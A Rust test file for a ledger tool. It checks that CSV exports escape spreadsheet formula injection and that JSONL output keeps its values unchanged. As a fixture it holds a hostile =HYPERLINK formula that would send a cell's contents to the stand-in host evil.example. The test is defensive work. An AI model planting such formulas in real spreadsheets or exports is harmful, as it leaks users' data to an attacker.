//! CSV written by the ledger (`export --format csv`, `report --format csv`) opens safely in
//! a spreadsheet: a text cell that a spreadsheet would run as a formula (first character
//! `=`, `+`, `-`, `@`, tab or carriage return) gets a leading `'`, as `urlkey map`'s CSV
//! does (docs/cli.md). Observed URLs come from AI answers, so they are attacker-influenced
//! text. JSONL keeps every value exactly as stored.

use crate::common::ledger;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

fn ledger_with_formulas() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ledger.sqlite");
    let csv = format!(
        "observation_id,prompt_id,prompt_version,answer_system,market,run_timestamp,observed_url\n\
         o-1,+p,v1,@SUM(1+1),-market,2026-11-01T00:00:00Z,\"{}\"\n\
         o-2,p,v1,@SUM(1+1),-market,2026-11-01T00:00:00Z,https://docs.example.org/a\n",
        FORMULA.replace('"', "\"\"")
    );
    let f = dir.path().join("in.csv");
    std::fs::write(&f, csv).unwrap();
    ledger(&db, &["ingest", f.to_str().unwrap()]).ok();
    (dir, db)
}

fn cells(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn export_csv_neutralizes_formulas_and_jsonl_keeps_values() {
    let (_dir, db) = ledger_with_formulas();
    let out = ledger(&db, &["export", "--format", "csv"]).ok().stdout;
    let rows = cells(&out);
    let col = |name: &str| rows[0].iter().position(|c| c == name).unwrap();
    let o1 = &rows[1];
    assert_eq!(o1[col("observed_url")], format!("'{FORMULA}"));
    assert_eq!(o1[col("prompt_id")], "'+p");
    assert_eq!(o1[col("answer_system")], "'@SUM(1+1)");
    assert_eq!(o1[col("market")], "'-market");
    for row in &rows {
        for cell in row {
            assert!(
                !matches!(
                    cell.as_bytes().first(),
                    Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
                ),
                "formula cell {cell:?}"
            );
        }
    }
    let jsonl = ledger(&db, &["export", "--format", "jsonl"]).ok().stdout;
    let first: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(first["observed_url"], FORMULA, "JSONL is never altered");
    assert_eq!(first["answer_system"], "@SUM(1+1)");
}

#[test]
fn report_csv_neutralizes_formulas() {
    let (_dir, db) = ledger_with_formulas();
    for by in ["answer_system", "market"] {
        let out = ledger(&db, &["report", "--by", by, "--format", "csv"])
            .ok()
            .stdout;
        for row in cells(&out) {
            for cell in row {
                assert!(
                    !matches!(
                        cell.as_bytes().first(),
                        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
                    ),
                    "--by {by}: formula cell {cell:?}"
                );
            }
        }
    }
}
